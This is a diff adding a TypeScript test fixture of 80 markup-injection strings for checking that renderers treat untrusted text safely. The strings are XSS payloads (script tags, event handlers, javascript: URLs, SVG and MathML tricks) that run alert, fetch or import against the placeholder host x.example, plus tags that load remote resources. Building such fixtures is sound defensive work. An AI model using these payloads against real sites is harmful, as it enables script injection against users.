@@ -1,0 +1,36 @@
+/** 80 texts that would run or fetch something if any renderer took them for markup. */
+export const markupPayloads: readonly string[] = [
+  ...[
+    "alert(1)",
+    "document.title='broken'",
+    "fetch('http://x.example/')",
+    "import('http://x.example/')",
+  ].flatMap((code) => [
+    `<script>${code}</script>`,
+    `</script><script>${code}</script>`,
+    `<img src=x onerror="${code}">`,
+    `"><svg onload="${code}">`,
+    `' autofocus onfocus='${code}`,
+    `<a href="javascript:${code}">x</a>`,
+    `</title></style><body onload="${code}">`,
+    `<details open ontoggle="${code}">`,
+    `<iframe srcdoc="<script>${code}</script>"></iframe>`,
+    `\`\${${code}}\``,
+    `</text></svg><script>${code}</script>`,
+    `<math><mi xlink:href="javascript:${code}">x`,
+  ]),
+  ...["http://x.example/a", "//x.example/b", "https://x.example/c"].flatMap((url) => [
+    `<img src="${url}">`,
+    `![x](${url})`,
+    `<link rel="stylesheet" href="${url}">`,
+    `<style>@import "${url}"</style>`,
+    `<div style="background:url(${url})">`,
+    `<svg><image href="${url}"/></svg>`,
+    `<video poster="${url}"></video>`,
+    `<object data="${url}"></object>`,
+    `<meta http-equiv="refresh" content="0;url=${url}">`,
+    `\\href{${url}}{x}`,
+  ]),
+  "<!--",
+  "]]>",
+];
